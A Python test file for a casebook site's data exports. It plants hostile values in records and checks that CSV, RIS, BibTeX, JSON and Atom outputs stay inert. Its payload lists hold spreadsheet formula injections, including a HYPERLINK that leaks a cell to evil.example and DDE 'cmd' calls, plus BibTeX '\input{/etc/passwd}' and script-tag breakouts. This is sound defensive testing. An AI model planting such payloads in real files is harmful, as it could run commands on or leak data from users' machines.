"""Attack tests of the data exports: hostile record text stays inert in every file the site publishes.

Contributors are untrusted. Each test plants hostile values in records and parses the output the way a
consumer would (csv, line by line for RIS, pybtex for BibTeX, ElementTree for the feed), asserting that
nothing a value holds becomes a formula, a line, a tag, a field, an entry or malformed XML.

The records are built with ``model_construct``, which skips validation, into a small casebook of their
own: the export encoding is tested on its own, whatever the record-text checks of the model accept
(many payloads here, such as a title starting with '=', pass the model anyway). Nothing reads or
writes content/ except the last test, which exports the real content unchanged.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import unicodedata
import xml.etree.ElementTree as ET
from typing import Any

import pytest
from pybtex.database import BibliographyData, parse_string

from casebook.core.book import Casebook, Origin
from casebook.core.model import Citation, Fact, Record, Source
from casebook.core.validate import build_case
from casebook.outputs.cite import cite_this_page
from casebook.outputs.exports import (
    FACT_COLUMNS,
    SOURCE_COLUMNS,
    bibtex_escape,
    export_files,
    fact_items,
    facts_csv,
    neutralise_formula,
    one_line,
    ris,
    sources_csv,
)
from casebook.outputs.feed import Change, atom_feed
from casebook.outputs.record_changes import RecordChange

from .conftest import ROOT, SEED

SITE = "https://example.org/casebook/"
VERSION = "0.1.0+2026-11-28"
ATOM = {"a": "http://www.w3.org/2005/Atom"}

# ---------------------------------------------------------------- payloads

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the sources")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte-order mark
    "\n=1+1",
    '＝HYPERLINK("https://evil.example")',
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",  # small equals sign
]

LINE_BREAKS = ["\r", "\n", "\r\n", "\u2028", "\u2029", "\u0085", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e"]
CONTROLS = ["\x00", "\x01", "\x07", "\x08", "\x1b", "\x7f", "\x9b"]

# characters of the BibTeX attacks: braces, backslash, LaTeX specials, entry and field syntax
BIBTEX_ALPHABET = [*'{}\\@,="#%&$_~^ aZ0', "@misc{", "},", " and ", " AND ", "\n", "\r", "\u2028"]
BIBTEX_PAYLOADS = [
    "}",
    "{",
    "\\",
    "}}",
    "\\}",
    "a}, note = {injected",
    "}}\n@misc{injected,\n  title = {Forged}\n}\n@comment{",
    "@misc{evil, title={x}}",
    "\\end{document}\\input{/etc/passwd}",
    "100% of R&D $5 #1 a_b ~ ^",
    'quote " and {unbalanced',
    "\\textbraceright{}",
    "%}",
]


def _origin(record_id: str) -> Origin:
    return Origin(f"content/hostile/{record_id}.yml", ROOT, ())


def seed_book() -> Casebook:
    """A small casebook of ordinary records, built with ``model_construct`` as the hostile ones are, so the
    tests do not depend on what content validation accepts this week."""
    book = Casebook(SEED)
    ordinary = hostile_source(
        "China-Based Executive at U.S. Telecommunications Company Charged",
        "doj-2020-12-18-release",
        publisher="U.S. Department of Justice",
        type="government",
        authors=[],
        published="2020-12-18",
        url="https://www.justice.gov/opa/pr/china-based-executive",
        archive_url="https://web.archive.org/web/https://www.justice.gov/opa/pr/china-based-executive",
        license="public-domain",
    )
    add(book, ordinary, hostile_fact("Prosecutors charged Xinjiang Jin.", ordinary.id, "complaint-unsealed"))
    return book


def add(book: Casebook, *records: Record) -> Casebook:
    for record in records:
        book.add(record, _origin(record.id))
    return book


def hostile_source(value: str, record_id: str = "evil-source", **fields: Any) -> Source:
    data: dict[str, Any] = {
        "id": record_id,
        "title": value,
        "publisher": value,
        "type": "press",
        "authors": [value, "Jane Doe"],
        "published": "2020-06",
        "url": "https://example.org/a",
        "archive_url": "https://web.archive.org/web/https://example.org/a",
        "accessed": "2026-11-28",
        "license": "copyrighted",
        "language": "en",
        "read_via": [],
        "note": None,
        "excerpts": [],
        "snapshot": None,
        "former_ids": [],
    }
    data.update(fields)
    return Source.model_construct(**data)


def hostile_fact(value: str, source_id: str, record_id: str = "evil-fact") -> Fact:
    """A fact with ``value`` in every text and list field (ids included, which only model_construct allows)."""
    return Fact.model_construct(
        id=record_id,
        former_ids=[],
        statement=value,
        status="alleged",
        date="2020-06-04",
        topics=[value],
        sources=[Citation.model_construct(source=source_id, locator=value, excerpt=value)],
        attributed_to=[value],
        people=[value],
        organisations=[],
        laws=[],
        terms=[value],
        note=value,
    )


# ---------------------------------------------------------------- CSV


def looks_like_formula(cell: str) -> bool:
    """What a spreadsheet may run: a cell starting with =, +, -, @ (or a full-width or small form), after
    white space or invisible characters, or with a tab or carriage return. Written independently of the
    exporter's own check."""
    if cell[:1] in ("\t", "\r"):
        return True
    rest = "".join(ch for ch in cell if unicodedata.category(ch) not in ("Cf", "Cc")).lstrip()
    return unicodedata.normalize("NFKC", rest[:1])[:1] in "=+-@" if rest else False


def parse_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert "\n" not in text.replace("\r\n", ""), "rows end with CRLF and no cell holds a line break"
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", FORMULAS, ids=[f"formula-{i}" for i in range(len(FORMULAS))])
def test_csv_cells_never_start_a_formula(value: str) -> None:
    book = seed_book()
    source = hostile_source(
        value,
        url=value,
        archive_url=value,
        type=value,
        license=value,
        language=value,
        read_via=[value],
        published=value,
        accessed=value,
    )
    add(book, source, hostile_fact(value, "evil-source"))
    tables = {
        "facts.csv": parse_csv(facts_csv(fact_items(book, SITE))),
        "sources.csv": parse_csv(sources_csv(book.of_kind(Source))),
    }
    for name, table in tables.items():
        columns = FACT_COLUMNS if name == "facts.csv" else SOURCE_COLUMNS
        assert table[0] == list(columns)
        assert all(len(row) == len(columns) for row in table), name  # no row or column injected
        formulas = [(name, cell) for row in table for cell in row if looks_like_formula(cell)]
        assert not formulas
    fact_row = dict(zip(FACT_COLUMNS, next(r for r in tables["facts.csv"] if r[0] == "evil-fact"), strict=True))
    source_row = dict(zip(SOURCE_COLUMNS, next(r for r in tables["sources.csv"] if r[0] == "evil-source"), strict=True))
    # the text is kept, after the quote
    assert source_row["title"] == "'" + one_line(value)
    assert source_row["url"] == "'" + one_line(value)
    assert fact_row["topics"] == "'" + one_line(value)
    assert fact_row["statement"].startswith("'")


def test_csv_through_export_files() -> None:
    """The published files, with values the model accepts today (a title starting with '=' is plain text)."""
    book = seed_book()
    payload = '=HYPERLINK("https://evil.example/?leak="&A1,"Sources")'
    add(book, hostile_source(payload), hostile_fact("@SUM(1+1)*cmd|' /C calc'!A0", "evil-source"))
    files = export_files(book, site_url=SITE, version=VERSION)
    for name in ("facts.csv", "sources.csv"):
        table = parse_csv(files[name])
        assert len(table) == 1 + len(book.of_kind(name.split(".")[0].rstrip("s")))
        assert not [cell for row in table for cell in row if looks_like_formula(cell)], name
    # JSON keeps the exact text
    facts = json.loads(files["facts.json"])["facts"]
    assert next(f for f in facts if f["id"] == "evil-fact")["statement"] == "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("  -1", "'  -1"),
        ("\t1", "'\t1"),
        ("\r1", "'\r1"),
        ("＠x", "'＠x"),
        ("\u200b+1", "'\u200b+1"),
        # legitimate values are unchanged: dates, ids, addresses, text with a sign inside
        ("2020-06-04", "2020-06-04"),
        ("doj-2020-12-18-release", "doj-2020-12-18-release"),
        ("https://example.org/a=b", "https://example.org/a=b"),
        ("Zoom: 1 + 1 = 2", "Zoom: 1 + 1 = 2"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        ("   ", "   "),
    ],
)
def test_neutralise_formula(value: str, expected: str) -> None:
    assert neutralise_formula(value) == expected


@pytest.mark.parametrize("char", LINE_BREAKS + CONTROLS, ids=lambda c: f"U+{ord(c[0]):04X}")
def test_csv_cells_are_one_line_without_controls(char: str) -> None:
    book = seed_book()
    source = hostile_source(f"Title{char}second line", url=f"https://example.org/{char}x")
    add(book, source, hostile_fact(f"Statement{char}=1+1", "evil-source"))
    for data in (facts_csv(fact_items(book, SITE)), sources_csv([source])):
        cells = [cell for row in parse_csv(data) for cell in row]
        assert not [c for c in cells if any(unicodedata.category(ch) == "Cc" or ch in "\u2028\u2029" for ch in c)]


# ---------------------------------------------------------------- RIS

RIS_LINE = re.compile(r"^[A-Z][A-Z0-9]  - [^\x00-\x1f\x7f-\x9f\u2028\u2029]*$")


def parse_ris(data: bytes) -> list[list[tuple[str, str]]]:
    """Records as [(tag, value)]: every line must be a tag line or the blank line between records."""
    text = data.decode("utf-8")
    records: list[list[tuple[str, str]]] = [[]]
    for line in text.split("\r\n"):
        if not line:
            continue
        assert RIS_LINE.match(line), repr(line)
        assert line.splitlines() == [line], repr(line)  # no break any reader could see (U+2028, NEL, VT …)
        tag, value = line[:2], line[6:]
        records[-1].append((tag, value))
        if tag == "ER":
            records.append([])
    assert records[-1] == []
    return records[:-1]


@pytest.mark.parametrize("char", LINE_BREAKS + CONTROLS, ids=lambda c: f"U+{ord(c[0]):04X}")
def test_ris_values_cannot_forge_tags(char: str) -> None:
    forged = f"Real title{char}ER  - {char}{char}TY  - JOUR{char}TI  - Forged record{char}ER  - "
    book = seed_book()
    source = hostile_source(
        forged,
        authors=[forged, f"Jane{char}Doe"],
        url=f"https://example.org/{char}AU  - x",
        archive_url=f"https://example.org/{char}ER  - ",
        language=f"en{char}ER  - ",
    )
    add(book, source)
    records = parse_ris(ris(book, book.of_kind(Source)))
    assert len(records) == len(book.of_kind(Source))  # the hostile one and the seed's: none forged
    evil = next(r for r in records if ("ID", "evil-source") in r)
    assert [tag for tag, _ in evil].count("TI") == 1 and [tag for tag, _ in evil].count("TY") == 1
    assert dict(evil)["TI"] == one_line(forged)
    assert [tag for tag, _ in evil][-1] == "ER"


def test_ris_through_export_files() -> None:
    book = seed_book()
    add(book, hostile_source("Title\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - Forged"))
    records = parse_ris(export_files(book, site_url=SITE, version=VERSION)["bibliography.ris"])
    assert len(records) == len(book.of_kind(Source))
    assert not any(("TI", "Forged") in r for r in records)


# ---------------------------------------------------------------- BibTeX

# the exporter's escapes, undone: written out here so the test does not trust the module's table
UNESCAPE = {
    r"\textbackslash{}": "\\",
    r"\textbraceleft{}": "{",
    r"\textbraceright{}": "}",
    r"\textasciitilde{}": "~",
    r"\textasciicircum{}": "^",
    r"\&": "&",
    r"\%": "%",
    r"\$": "$",
    r"\#": "#",
    r"\_": "_",
}
_UNESCAPE_RE = re.compile("|".join(re.escape(k) for k in UNESCAPE))


def unescape(value: str) -> str:
    assert "\\" not in _UNESCAPE_RE.sub("", value), f"a stray backslash in {value!r}"
    return _UNESCAPE_RE.sub(lambda m: UNESCAPE[m.group(0)], value)


def parse_bib(text: str) -> BibliographyData:
    return parse_string(text, "bibtex")


def _random_strings(count: int) -> list[str]:
    rng = random.Random(11)
    return ["".join(rng.choice(BIBTEX_ALPHABET) for _ in range(rng.randint(1, 12))) for _ in range(count)]


@pytest.mark.parametrize("text", BIBTEX_PAYLOADS + _random_strings(200))
def test_bibtex_escape_round_trips_through_pybtex(text: str) -> None:
    escaped = bibtex_escape(text)
    entry = f"@misc{{k,\n  title = {{{escaped}}},\n  note = {{after}}\n}}\n"
    data = parse_bib(entry)
    assert list(data.entries) == ["k"]
    fields = data.entries["k"].fields
    assert list(fields) == ["title", "note"] and fields["note"] == "after"
    assert fields["title"] == escaped
    assert unescape(fields["title"]) == one_line(text)


@pytest.mark.parametrize("value", BIBTEX_PAYLOADS, ids=[f"bibtex-{i}" for i in range(len(BIBTEX_PAYLOADS))])
def test_bibtex_entries_cannot_be_forged(value: str) -> None:
    book = seed_book()
    source = hostile_source(
        value,
        authors=[value, "Jane AND Bob Doe", "John Smith, Jr"],
        url="https://example.org/a}b{c\\d e%zz\n@misc{injected,",
        archive_url="https://example.org/}\n@misc{injected2,",
    )
    add(book, source)
    bib = export_files(book, site_url=SITE, version=VERSION)["bibliography.bib"].decode("utf-8")
    data = parse_bib(bib)
    assert set(data.entries) == {s.id for s in book.of_kind(Source)}  # nothing injected, nothing lost
    entry = data.entries["evil-source"]
    assert entry.type == "article"
    assert set(entry.fields) == {"title", "journal", "entrysubtype", "date", "url", "urldate", "note", "langid"}
    assert unescape(entry.fields["title"].removeprefix("{").removesuffix("}")) == one_line(value)
    assert unescape(entry.fields["journal"]) == one_line(value)
    assert entry.fields["date"] == "2020-06" and entry.fields["urldate"] == "2026-11-28"
    assert len(entry.persons["author"]) == 3  # 'AND' in a name does not split it
    assert not re.search(r"[{}\\\s]", entry.fields["url"])
    assert entry.fields["url"].startswith("https://example.org/a%7Db%7Bc%5Cd%20e%25zz")


def test_bibtex_lines_are_one_line() -> None:
    book = seed_book()
    add(book, hostile_source("a\u2028b\u2029c\x85d\x0be\x0cf\rg\nh\x00i"))
    bib = export_files(book, site_url=SITE, version=VERSION)["bibliography.bib"].decode("utf-8")
    assert bib.splitlines() == bib.rstrip("\n").split("\n")  # no break but LF, which ends the lines
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", bib)
    entry = parse_bib(bib).entries["evil-source"]
    assert entry.fields["title"] == "{a b c d e f g h i}"


# ---------------------------------------------------------------- "Cite this page"


def _cite_block(box: str) -> str:
    lines = box.split("\n")
    start = next(i for i, line in enumerate(lines) if re.fullmatch(r" {4}(`{3,})bibtex", line))
    fence = lines[start].strip().removesuffix("bibtex")
    end = next(i for i in range(start + 1, len(lines)) if lines[i] == "    " + fence)
    inner = lines[start + 1 : end]
    assert not any(fence in line for line in inner)
    return "\n".join(line.removeprefix("    ") for line in inner)


@pytest.mark.parametrize(
    "title",
    [*BIBTEX_PAYLOADS, "Title\n# Not a heading\n<script>alert(1)</script>", "a ``` b ```` c", "x\u2028y\rz"],
)
def test_cite_this_page_is_inert(title: str) -> None:
    box = cite_this_page(title, "https://example.org/casebook/case/}x/", "2026-11-28", "Case}book\n@misc{x,")
    # every line of the box stays inside the admonition
    assert all(line == "" or line.startswith("    ") for line in box.split("\n")[1:])
    data = parse_bib(_cite_block(box))
    assert len(data.entries) == 1
    (entry,) = data.entries.values()
    assert set(entry.fields) == {"title", "date", "url", "langid", "note"}
    assert unescape(entry.fields["title"]) == one_line(title)
    assert "}" not in entry.fields["url"] and " " not in entry.fields["url"]
    assert len(entry.persons["author"]) == 1


# ---------------------------------------------------------------- JSON


def test_json_exports_keep_hostile_text_exactly() -> None:
    book = seed_book()
    nasty = '</script><script>alert("x")</script> \u2028 \\" =cmd|'
    add(book, hostile_source(nasty), hostile_fact(nasty, "evil-source"))
    files = export_files(book, site_url=SITE, version=VERSION)
    facts = json.loads(files["facts.json"])["facts"]
    assert next(f for f in facts if f["id"] == "evil-fact")["sources"][0]["locator"] == nasty
    csl = json.loads(files["bibliography.csl.json"])
    assert next(i for i in csl if i["id"] == "evil-source")["title"] == nasty


def test_json_in_html_is_written_with_tojson() -> None:
    """The only JSON in a page is the JSON-LD of the theme's <head>: written with Jinja's tojson, which
    escapes <, > and & (so a value cannot close the script element)."""
    import jinja2

    template = (ROOT / "scripts" / "casebook" / "theme" / "main.html").read_text(encoding="utf-8")
    scripts = re.findall(r"<script[^>]*application/ld\+json[^>]*>(.*?)</script>", template, re.DOTALL)
    assert scripts and all(re.fullmatch(r"\{\{\s*[\w.]+\s*\|\s*tojson\s*\}\}", s.strip()) for s in scripts)
    out = jinja2.Environment(autoescape=True).from_string("{{ x | tojson }}").render(x={"a": "</script>&<!--"})
    assert "<" not in out and ">" not in out and "&" not in out
    assert json.loads(out) == {"a": "</script>&<!--"}


# ---------------------------------------------------------------- Atom feed

XML_FORBIDDEN = [chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)]] + ["\ufffe", "\uffff", "\ud800"]


def test_feed_is_well_formed_whatever_the_text() -> None:
    book = seed_book()
    junk = "".join(XML_FORBIDDEN)
    add(book, hostile_source(f"Title {junk} ]]> </content> &amp; <b>"), hostile_fact("x", "evil-source"))
    changes = [
        Change("2026-01-02", f"Subject {junk} <entry> & ]]>", "abc1234", [_change("source", "evil-source", "added")]),
        Change("2026-01-01", "Plain", "def5678", [_change("fact", "evil-fact", "changed")]),
    ]
    data = atom_feed(book, changes, SITE, f"Case{junk}book").encode("utf-8")
    feed = ET.fromstring(data)
    entries = feed.findall("a:entry", ATOM)
    assert len(entries) == 2
    title = entries[0].findtext("a:title", namespaces=ATOM) or ""
    assert title.startswith("Source added: Title ") and title.endswith("]]> </content> &amp; <b>")
    content = entries[0].findtext("a:content", namespaces=ATOM) or ""
    assert "Title " in content and "&lt;/content&gt;" in content
    assert "Subject" not in data.decode("utf-8")  # the commit subject is maintainers' words: not published
    assert feed.findtext("a:updated", namespaces=ATOM) == "2026-01-02T00:00:00Z"


def _change(kind: str, record_id: str, action: str) -> RecordChange:
    return RecordChange(kind, record_id, action, {"id": record_id}, {"id": record_id})


@pytest.mark.parametrize("char", XML_FORBIDDEN, ids=lambda c: f"U+{ord(c):04X}")
def test_feed_drops_each_forbidden_character(char: str) -> None:
    book = seed_book()
    add(book, hostile_source(f"a{char}b"))
    changes = [Change("2026-01-02", f"c{char}d", "abc1234", [_change("source", "evil-source", "added")])]
    feed = ET.fromstring(atom_feed(book, changes, SITE, "Casebook").encode("utf-8"))
    assert feed.find("a:entry/a:title", ATOM) is not None


# ---------------------------------------------------------------- the real content stays as it was


def test_real_content_exports_are_untouched_by_the_encoding() -> None:
    """No real value needs neutralising: the encoding changes nothing for legitimate content."""
    book = build_case(ROOT / "content")
    files = export_files(book, site_url=SITE, version=VERSION)
    for name in ("facts.csv", "sources.csv"):
        assert not [c for row in parse_csv(files[name]) for c in row if c.startswith("'")], name
    assert len(parse_ris(files["bibliography.ris"])) == len(book.of_kind(Source))
    assert set(parse_bib(files["bibliography.bib"].decode("utf-8")).entries) == {s.id for s in book.of_kind(Source)}
